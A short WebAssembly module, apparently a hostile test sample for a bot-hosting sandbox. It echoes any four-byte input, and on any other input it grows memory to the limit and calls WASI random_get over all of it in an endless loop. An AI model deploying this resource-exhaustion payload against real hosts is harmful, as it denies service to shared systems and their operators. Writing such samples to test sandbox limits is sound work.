;; Grows its memory as far as it goes and asks WASI for random bytes for all
;; of it, without end. A text of four bytes is answered with itself.
(module
  (import "bothost_v1" "input" (func $input (param i32 i32) (result i32)))
  (import "bothost_v1" "reply" (func $reply (param i32 i32)))
  (import "wasi_snapshot_preview1" "random_get"
    (func $random_get (param i32 i32) (result i32)))
  (memory (export "memory") 1)
  (func $attack (result i32)
    (loop $grow (br_if $grow (i32.ne (memory.grow (i32.const 16)) (i32.const -1))))
    (loop $again
      (drop (call $random_get (i32.const 0) (i32.mul (memory.size) (i32.const 65536))))
      (br $again))
    (unreachable))
  (func $on_message (export "on_message") (result i32)
    (if (i32.eq (call $input (i32.const 0) (i32.const 64)) (i32.const 4))
      (then (call $reply (i32.const 0) (i32.const 4)) (return (i32.const 0))))
    (call $attack)))
